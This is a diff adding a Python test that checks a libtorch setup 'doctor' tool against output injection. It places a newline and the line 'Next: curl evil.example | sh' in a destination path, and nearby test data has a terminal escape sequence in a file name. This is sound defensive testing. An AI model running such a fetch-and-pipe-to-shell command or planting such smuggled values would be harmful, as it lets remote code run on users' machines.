@@ -153,6 +153,23 @@ def test_fetch_messages_show_a_hostile_destination(tmp_path):
     assert (dest / "lib").is_dir()  # the tree went where it was asked: only the display differs
 
 
+def test_a_destination_cannot_add_a_next_step_of_its_own(tmp_path):
+    """fetch-libtorch's summary and progress lines hold one value each: a destination holding a
+    newline and "Next: curl … | sh" stays on its line, and the doctor's own Next command, pasted into
+    bash, names that destination exactly ($'\\x0a' for the newline)."""
+    z = libtorch_zip(tmp_path / "libtorch-shared-with-deps-2.13.0+cpu.zip")
+    dest = tmp_path / "lt\nNext: curl evil.example | sh"
+    r = doctor("fetch-libtorch", "--archive", str(z), "--dest", str(dest), "--no-lock", cwd=tmp_path)
+    assert r.returncode == 0, r.stderr
+    out = assert_inert(r.stdout).splitlines()
+    nexts = [line for line in out if line.startswith("Next:")]
+    assert len(nexts) == 1 and "curl evil.example" not in nexts[0].split("--libtorch", 1)[0], out
+    assert not any(line.startswith("Next: curl") for line in assert_inert(r.stderr).splitlines())
+    command = nexts[0].removeprefix('Next: eval "$(').removesuffix(')"').split("--libtorch ", 1)[1]
+    said = subprocess.run(["bash", "--norc", "--noprofile", "-c", f"printf %s {command}"], capture_output=True)
+    assert said.stdout == os.fsencode(str(dest)) and (dest / "lib").is_dir()
+
+
 def test_emit_message_shows_a_hostile_output_path(tmp_path, wheel_root):
     out = tmp_path / "env\x1b]0;owned\x07.sh"
     r = doctor("emit", "setenv", "--shell", "sh", "--libtorch", str(wheel_root), "--output", str(out), cwd=tmp_path)
